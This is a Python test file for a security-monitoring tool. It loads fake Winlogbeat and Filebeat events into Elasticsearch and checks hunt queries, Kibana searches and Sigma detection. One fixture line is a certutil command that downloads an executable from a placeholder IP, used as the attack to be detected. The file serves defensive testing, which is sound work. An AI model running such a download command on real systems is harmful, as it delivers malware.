"""Programs of others on our streams: Beats write, Kibana asks, a Sigma converter asks."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

import rules
from soc.alerts.raising import to_alert
from soc.model.time import now
from soc.run.detection import detection
from soc.store.elastic import ElasticStore
from soc.store.query import parse
from tests.command import soc
from tests.elastic.cluster import Cluster
from tests.elastic.test_cli import master
from tests.elastic.test_robust import drained

__all__ = ["master"]
pytestmark = [pytest.mark.elastic, pytest.mark.slow]
AGENT = {"type": "winlogbeat", "version": "8.19.3", "name": "pc17", "ephemeral_id": "e", "id": "a"}


def winlogbeat(second: int, command: str) -> dict[str, Any]:
    """A process creation of the Security channel as Winlogbeat 8 sends it: no id, no dataset."""
    return {
        "@timestamp": f"2026-11-22T08:15:{second:02d}.123Z",
        "agent": AGENT,
        "ecs": {"version": "8.0.0"},
        "event": {"action": "Process Creation", "code": "4688", "kind": "event"},
        "host": {"name": "pc17", "os": {"type": "windows", "family": "windows"}},
        "log": {"level": "information"},
        "message": "A new process has been created.",
        "winlog": {
            "channel": "Security",
            "computer_name": "pc17.city.example",
            "event_id": "4688",
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "record_id": 1000 + second,
            "keywords": ["Audit Success"],
            "event_data": {
                "NewProcessName": "C:\\Windows\\System32\\" + command.split()[0],
                "CommandLine": command,
                "ParentProcessName": "C:\\Windows\\explorer.exe",
                "SubjectUserName": "lan",
            },
        },
    }


def filebeat(second: int, message: str) -> dict[str, Any]:
    """A line of a log as Filebeat 8 sends it."""
    return {
        "@timestamp": f"2026-11-22T08:16:{second:02d}.000Z",
        "agent": AGENT | {"type": "filebeat"},
        "ecs": {"version": "8.0.0"},
        "event": {"dataset": "system.auth"},
        "host": {"name": "web7"},
        "input": {"type": "filestream"},
        "log": {"file": {"path": "/var/log/auth.log", "inode": "17"}, "offset": 181 * second},
        "message": message,
    }


def bulk(cluster: Cluster, stream: str, documents: Sequence[dict[str, Any]]) -> None:
    """Send documents as Beats do: `create` into a data stream, ids left to the server."""
    lines = [one for doc in documents for one in ({"create": {"_index": stream}}, doc)]
    body = "".join(json.dumps(one) + "\n" for one in lines).encode()
    assert cluster.ask("POST", "/_bulk", body)["errors"] is False


ATTACK = "certutil.exe -urlcache -f http://203.0.113.9/a.exe a.exe"


@pytest.fixture
def beats(cluster: Cluster, store: ElasticStore, place: str) -> ElasticStore:
    """A store that only Beats have written to."""
    windows = [winlogbeat(n, f"notepad.exe file{n}.txt") for n in range(10)]
    bulk(cluster, f"logs-soc.winlogbeat-{place}", [*windows, winlogbeat(30, ATTACK)])
    lines = [filebeat(n, f"sshd[{n}]: Failed password for root from 10.1.2.3") for n in range(5)]
    bulk(cluster, f"logs-soc.filebeat-{place}", lines)
    cluster.ask("POST", f"/logs-soc.*-{place}/_refresh")
    return store


def test_what_beats_wrote_is_found(
    beats: ElasticStore, master: dict[str, str], tmp_path: Path
) -> None:
    def hunt(query: str) -> list[dict[str, Any]]:
        ran = soc("hunt", query, home=tmp_path, environ=master)
        assert ran.code == 0, ran.err
        return ran.documents

    assert len(hunt("agent.type:winlogbeat")) == 11
    assert len(hunt('event.code:4688 AND host.name:PC17 AND "new process"')) == 11
    assert len(hunt("event.dataset:system.auth AND failed")) == 5
    (found,) = hunt("winlog.event_data.CommandLine:*URLCACHE*")
    assert hunt("winlog.record_id:1030") == [found]
    assert len(hunt("winlog.event_data.CommandLine:notepad*")) == 10
    assert found["winlog"]["event_data"]["CommandLine"] == ATTACK
    assert found["event"]["id"]


def test_what_beats_wrote_is_judged(beats: ElasticStore) -> None:
    events = drained(beats)
    assert len(events) == 16
    assert len({one["event.id"] for one in events}) == 16
    loaded = detection([rules.SIGMA])
    findings = [each for one in events for each in loaded.engine.evaluate(one)]
    about = [one for one in findings if one.event.get("winlog.record_id") == 1030]
    assert about
    alert = to_alert(about[0], now())
    assert [one.outcome for one in beats.create_alerts([alert])] == ["created"]
    (evidence,) = beats.get(alert["soc.event_ids"])
    assert evidence["winlog.event_data.CommandLine"] == ATTACK


def test_the_evidence_of_a_program_that_names_its_events_is_found(
    cluster: Cluster, store: ElasticStore, place: str
) -> None:
    """As modules of Filebeat do: `event.id` is the source's, the `_id` is the server's."""
    named = [winlogbeat(n, ATTACK) | {"event": {"code": "4688", "id": f"Okta-{n}"}} for n in (1, 2)]
    bulk(cluster, f"logs-soc.x-{place}", named)
    cluster.ask("POST", f"/logs-soc.*-{place}/_refresh")
    found = store.get(["Okta-2", "okta-1", "Okta-1"])
    assert [one["winlog.record_id"] for one in found] == [1002, 1001]


def test_events_of_one_millisecond_without_an_id_are_on_one_page_each(
    cluster: Cluster, store: ElasticStore, place: str
) -> None:
    """A batch that was stamped at once: backfill and `soc hunt` go through it page by page."""
    for stream in ("a", "b"):
        same = [filebeat(0, f"{stream}{n}") for n in range(8)]
        bulk(cluster, f"logs-soc.{stream}-{place}", same)
    cluster.ask("POST", f"/logs-soc.*-{place}/_refresh")
    seen: list[str] = []
    after = None
    while True:
        page = store.search(parse("*"), limit=3, after=after)
        seen += [one["message"] for one in page.events]
        if (after := page.next) is None:
            break
    assert sorted(seen) == sorted(f"{stream}{n}" for stream in "ab" for n in range(8))


def test_a_dashboards_question(cluster: Cluster, beats: ElasticStore, place: str) -> None:
    """The body that a lens chart over a data view sends, written by hand."""
    body = {
        "size": 0,
        "query": {
            "bool": {
                "must": [],
                "filter": [
                    {"query_string": {"query": "host.name:pc17 AND event.code:4688"}},
                    {"match_phrase": {"message": "new process"}},
                    {"range": {"@timestamp": {"gte": "2026-11-22T08:00:00.000Z"}}},
                    {"exists": {"field": "winlog.record_id"}},
                ],
                "should": [],
                "must_not": [{"match_phrase": {"host.name": "pc18"}}],
            }
        },
        "aggs": {
            "times": {
                "date_histogram": {
                    "field": "@timestamp",
                    "fixed_interval": "30s",
                    "time_zone": "Asia/Ho_Chi_Minh",
                    "min_doc_count": 1,
                },
                "aggs": {"acts": {"terms": {"field": "event.action"}}},
            },
            "hosts": {"cardinality": {"field": "host.name"}},
        },
        "runtime_mappings": {},
        "track_total_hits": True,
    }
    found = cluster.ask("POST", f"/logs-soc.*-{place}/_search", body)
    assert found["hits"]["total"]["value"] == 11
    buckets = found["aggregations"]["times"]["buckets"]
    assert [one["doc_count"] for one in buckets] == [10, 1]
    assert buckets[1]["acts"]["buckets"][0]["key"] == "process creation"
    assert found["aggregations"]["hosts"]["value"] == 1
    assert len(beats.search(parse("host.name:PC17")).events) == 11


@pytest.mark.parametrize(
    ("query", "number"),
    [
        ("winlog.event_data.CommandLine:*URLCACHE*", 1),
        ("winlog.event_data.CommandLine:Notepad.exe\\ *", 10),
        ('winlog.event_data.SubjectUserName:"LAN"', 11),
        ("NOT _exists_:winlog.event_data.ParentProcessName", 5),
        ('"certutil.exe"', 1),  # without quotes either word will do: certutil, exe
        ('"Failed password"', 5),
    ],
)
def test_what_somebody_types_into_kibana(
    cluster: Cluster, beats: ElasticStore, place: str, query: str, number: int
) -> None:
    string = {"query": query, "analyze_wildcard": True}
    body = {"query": {"query_string": string}, "track_total_hits": True}
    found = cluster.ask("POST", f"/logs-soc.*-{place}/_search", body)
    assert found["hits"]["total"]["value"] == number
    assert len(beats.search(parse(query)).events) == number
